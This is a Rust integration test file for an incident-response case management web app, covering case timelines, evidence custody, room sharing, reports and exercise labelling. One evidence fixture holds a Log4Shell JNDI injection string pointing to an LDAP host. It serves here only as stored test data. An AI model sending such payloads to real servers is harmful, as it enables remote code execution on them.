//! Case files of incidents: opened, timed, written, shared, reported, handed out and closed; and that an exercise stays one.

use people::Role;
use webtest::Browser;

use crate::browser::{look_as, serve};
use crate::client::{Client, Reply};
use crate::stage::Stage;

/// The stage's clock stands at eight in the morning.
const DAY: [(&str, &str); 3] = [("day-day", "6"), ("day-month", "5"), ("day-year", "2020")];

fn open(officer: &Client, exercise: bool) -> String {
    let mut pairs = vec![("name", "Monday morning"), ("kind", "ransomware")];
    pairs.extend(exercise.then_some(("exercise", "yes")));
    let opened = officer.post("/en/staff/incidents/new", &pairs);
    assert_eq!(opened.status, 303, "{}", opened.text());
    opened.location()
}

fn note(officer: &Client, case: &str, milestone: &str, time: &str) -> Reply {
    let mut pairs = DAY.to_vec();
    pairs.extend([("milestone", milestone), ("time", time), ("why", "as the log says")]);
    officer.post(&format!("{case}/times"), &pairs)
}

fn write(officer: &Client, (case, kind, room): (&str, &str, &str), title: &str, more: &[(&str, &str)]) -> Reply {
    let mut pairs = DAY.to_vec();
    pairs.extend([("time", "07:30"), ("title", title), ("room", room)]);
    pairs.extend(more);
    officer.post(&format!("{case}/write/{kind}"), &pairs)
}

#[test]
fn a_case_is_opened_timed_written_reported_and_closed() {
    let stage = Stage::new();
    let officer = stage.officer(0, Role::SecurityOfficer);
    let wrong = officer.post("/en/staff/incidents/new", &[("name", " "), ("kind", "canary-seen")]);
    assert!(wrong.status == 422 && wrong.text().contains("1 to 100 characters"), "what opens by itself is nobody's to report");
    let case = open(&officer, false);
    assert!(officer.get("/en/staff/incidents").text().contains("Monday morning"));
    assert!(officer.get(&case).text().contains("There is no deadline yet."));
    assert_eq!(note(&officer, &case, "aware", "07:00").status, 303);
    assert_eq!(note(&officer, &case, "told-office", "07:45").status, 303);
    assert_eq!(note(&officer, &case, "aware", "06:30").status, 303);
    let page = officer.get(&case).text();
    assert!(page.contains("Replaced at 8:00 am on 6 May 2020") && page.contains("Done late, at 7:45 am on 6 May 2020"), "both are kept: {page}");
    assert_eq!(note(&officer, &case, "contained", "08:01").status, 422, "not yet");
    assert_eq!(officer.post(&format!("{case}/facts"), &[("fact", "personal-data"), ("fact", "crime")]).status, 303);
    assert!(officer.get(&case).text().contains("Report to the police"));
    let due = [("owner", "System manager"), ("due-day", "9"), ("due-month", "5"), ("due-year", "2020")];
    assert_eq!(write(&officer, (&case, "task", "common"), "Block 192.168.2.6", &[]).status, 422, "nobody owns it");
    assert_eq!(write(&officer, (&case, "task", "common"), "Block 192.168.2.6", &due).status, 303);
    assert_eq!(write(&officer, (&case, "asset", "technical"), "web server 3", &[]).status, 303);
    let mut evidence = DAY.to_vec();
    evidence.extend([("time", "07:30"), ("title", "access log"), ("room", "technical"), ("kept", "locker 4")]);
    let sent = officer.post_file(&format!("{case}/write/evidence"), &evidence, b"GET /?q=${jndi:ldap://192.168.2.6}\n");
    assert_eq!(sent.status, 303, "{}", sent.text());
    let page = officer.get(&case);
    let number = page.between(&format!("{case}/evidence/"), "\"");
    assert_eq!(officer.get(&format!("{case}/evidence/{number}")).bytes, b"GET /?q=${jndi:ldap://192.168.2.6}\n");
    assert_eq!(write(&officer, (&case, "custody", "technical"), "to the police", &[("about", &number)]).status, 303);
    let task = page.between("name=\"number\" value=\"", "\"");
    assert_eq!(officer.post(&format!("{case}/done"), &[("number", &task)]).status, 303);
    let page = officer.get(&case).text();
    assert!(page.contains("Nothing is left to do.") && page.contains("to the police"), "{page}");
    reports(&officer, &case);
    let tick = officer.post(&format!("{case}/playbooks/ransomware"), &[("step", "isolate")]);
    assert_eq!(tick.status, 303);
    assert!(officer.get(&case).text().contains("Ransomware (1 / "));
    let pack = officer.post(&format!("{case}/pack"), &[]);
    assert_eq!((pack.status.as_u16(), &pack.bytes[257..262]), (200, &b"ustar"[..]));
    assert_eq!(officer.post(&case, &[]).status, 200, "whether it is to be closed is asked first");
    assert!(!officer.get("/en/staff/incidents").text().contains("Closed"));
    assert_eq!(officer.post(&case, &[("sure", "yes")]).status, 303);
    assert!(officer.get("/en/staff/incidents").text().contains("Closed"));
}

fn reports(officer: &Client, case: &str) {
    let report = format!("{case}/reports/preliminary");
    let before = officer.get(&report).text();
    assert!(before.contains("Not known yet") && before.contains("web server 3") && before.contains("2020-05-06 06:30"), "{before}");
    assert_eq!(officer.post(&format!("{case}/answers"), &[("what", "Files cannot be opened. \u{1f512}\nNor mail.")]).status, 303);
    let text = officer.get(&format!("{report}/text")).text();
    assert!(text.contains("Files cannot be opened.") && !text.contains("EXERCISE"), "{text}");
    assert!(officer.get(&format!("{case}/answers")).text().contains("Files cannot be opened."), "it can be mended");
    assert_eq!(officer.get(&format!("{report}/pdf")).status, if before.contains("As PDF") { 200 } else { 404 });
}

#[test]
fn only_the_commander_shares_and_a_helper_sees_one_room() {
    let stage = Stage::new();
    let (commander, privacy) = (stage.officer(0, Role::SecurityOfficer), stage.officer(0, Role::PrivacyOfficer));
    let helper = stage.officer(1, Role::SecurityOfficer);
    let case = open(&commander, false);
    write(&commander, (&case, "finding", "technical"), "old library", &[]);
    write(&commander, (&case, "timeline", "personal-data"), "eleven people", &[]);
    assert_eq!(helper.get(&case).status, 404);
    assert_eq!(privacy.get(&format!("{case}/rooms")).status, 403, "a colleague reads, and shares nothing");
    assert!(privacy.get(&case).text().contains("Only the commander shares"));
    let rooms = commander.get(&format!("{case}/rooms"));
    let department = format!("dep_{}", rooms.between("<option value=\"dep_", "\""));
    let named = [("room", "technical"), ("department", department.as_str())];
    assert_eq!(privacy.post(&format!("{case}/rooms"), &named).status, 403);
    assert_eq!(commander.post(&format!("{case}/rooms"), &named).status, 303);
    let seen = helper;
    let page = seen.get(&case).text();
    assert!(page.contains("old library") && !page.contains("eleven people"), "{page}");
    assert_eq!(seen.get(&format!("{case}/reports/preliminary")).status, 404);
    assert_eq!(seen.post(&format!("{case}/pack"), &[]).status, 404);
    assert_eq!(write(&seen, (&case, "indicator", "personal-data"), "x", &[]).status, 404, "not into a room that is not shared");
    assert_eq!(write(&seen, (&case, "indicator", "technical"), "192.168.2.6", &[]).status, 303);
    assert_eq!(commander.post(&format!("{case}/rooms/end"), &named).status, 303);
    assert_eq!(seen.get(&case).status, 404);
}

#[test]
fn promise_14_what_is_done_in_an_exercise_says_so_and_calls_nobody_out_for_real() {
    let stage = Stage::new();
    let officer = stage.officer(0, Role::SecurityOfficer);
    let case = open(&officer, true);
    for page in [case.clone(), format!("{case}/times"), format!("{case}/write/task"), format!("{case}/reports/final"), format!("{case}/call-out")] {
        assert!(officer.get(&page).text().contains("This is an exercise."), "{page}");
    }
    assert!(officer.get(&format!("{case}/reports/final/text")).text().starts_with("*** EXERCISE"));
    let pack = officer.post(&format!("{case}/pack"), &[]);
    assert!(pack.headers["content-disposition"].to_str().unwrap().contains("EXERCISE-") && pack.bytes.starts_with(b"EXERCISE-"));
    let words = [
        ("calls-words-en", "Drill"), ("calls-words-zh-hant", "演習"), ("calls-words-zh-hans", "演习"),
        ("calls-body-en", "Come."), ("calls-body-zh-hant", "請來。"), ("calls-body-zh-hans", "请来。"),
    ];
    let called = officer.post(&format!("{case}/call-out"), &words);
    assert_eq!(called.status, 303, "{}", called.text());
    assert!(officer.get(&called.location()).text().contains("This is an exercise."), "whatever the form said");
    assert!(officer.get(&case).text().contains(&called.location()));
    let real = open(&officer, false);
    let called = officer.post(&format!("{real}/call-out"), &words);
    assert!(!officer.get(&called.location()).text().contains("This is an exercise."));
}

#[test]
fn axe_finds_nothing_on_the_pages_of_a_case() {
    let (stage, origin) = serve();
    let officer = stage.officer(0, Role::SecurityOfficer);
    let case = open(&officer, true);
    note(&officer, &case, "aware", "07:00");
    write(&officer, (&case, "evidence", "technical"), "access log", &[]);
    write(&officer, (&case, "task", "common"), "block it", &[("owner", "Manager"), ("due-day", "5"), ("due-month", "5"), ("due-year", "2020")]);
    let case = case.trim_start_matches("/en");
    let browser = Browser::launch().unwrap();
    let mut found = Vec::new();
    for rest in ["", "/times", "/facts", "/rooms", "/write/custody", "/answers", "/reports/preliminary", "/playbooks/ransomware"] {
        found.extend(look_as(&browser, &stage, &origin, Role::SecurityOfficer, &format!("{case}{rest}")));
    }
    found.extend(look_as(&browser, &stage, &origin, Role::SecurityOfficer, "/staff/incidents/new"));
    assert_eq!(found, Vec::<String>::new());
}
